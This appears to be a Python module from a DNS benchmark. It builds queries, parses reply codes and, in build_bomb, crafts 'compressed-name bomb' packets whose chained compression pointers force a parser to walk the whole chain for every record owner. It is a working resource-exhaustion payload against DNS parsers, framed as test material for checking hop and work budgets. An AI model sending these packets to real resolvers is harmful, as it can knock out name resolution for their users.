"""DNS wire format for the benchmark: queries, reply codes and compressed-name bombs."""
import struct

RCODES = {0: "NOERROR", 1: "FORMERR", 2: "SERVFAIL", 3: "NXDOMAIN", 4: "NOTIMP", 5: "REFUSED"}
TYPE_CODES = {"A": 1, "NS": 2, "SOA": 6, "MX": 15, "TXT": 16, "AAAA": 28}


def name_wire(name):
    """A name in uncompressed wire form."""
    return b"".join(bytes([len(label)]) + label.encode() for label in name.rstrip(".").split(".") if label) + b"\0"


def build_query(qname, qtype, qid):
    """A plain query (no RD, no EDNS) for one name and type."""
    return struct.pack(">HHHHHH", qid, 0, 1, 0, 0, 0) + name_wire(qname) + struct.pack(">HH", qtype, 1)


def rcode_of(reply):
    """(id, rcode name) of a reply, or None for a runt."""
    if len(reply) < 12:
        return None
    qid, flags = struct.unpack(">HH", reply[:4])
    return qid, RCODES.get(flags & 0xF, str(flags & 0xF))


def build_bomb(qname, size, section, qid=0):
    """A query of about `size` octets whose `section` ("answer" or "additional") holds one
    record carrying a chain of compression pointers in its RDATA (each pointer aims at the
    one before it, the first at the question name) and then as many records as fit, each
    owned by a pointer to the last link: decompressing every owner walks the whole chain.
    Pointers reach only the first 16 KiB of a message (14-bit offsets), so the chain stays
    there and the records fill the rest. Names never grow (pointers add no labels), so a
    255-octet name limit does not stop the walk; only a hop or work budget does."""
    question = name_wire(qname) + struct.pack(">HH", 1, 1)
    chain_start = 12 + len(question) + 12          # after the chain record's own header
    room = size - chain_start
    # pointer targets must be < 0x4000; spend about a quarter of the room on the chain
    links = max(1, min((0x3FFF - chain_start) // 2, room // 4))
    chain = bytearray()
    for i in range(links):
        target = 12 if i == 0 else chain_start + 2 * (i - 1)
        chain += struct.pack(">H", 0xC000 | target)
    last_link = chain_start + 2 * (links - 1)
    chain_record = struct.pack(">HHHIH", 0xC00C, 10, 1, 0, len(chain)) + bytes(chain)   # NULL, owner = qname
    bomb_record = struct.pack(">HHHIH", 0xC000 | last_link, 10, 1, 0, 0)               # NULL, empty RDATA
    records = max(0, (size - 12 - len(question) - len(chain_record)) // len(bomb_record))
    count = 1 + records
    if count > 0xFFFF:
        records, count = 0xFFFF - 1, 0xFFFF
    an, ar = (count, 0) if section == "answer" else (0, count)
    header = struct.pack(">HHHHHH", qid, 0, 1, an, 0, ar)
    return header + question + chain_record + bomb_record * records, links * records
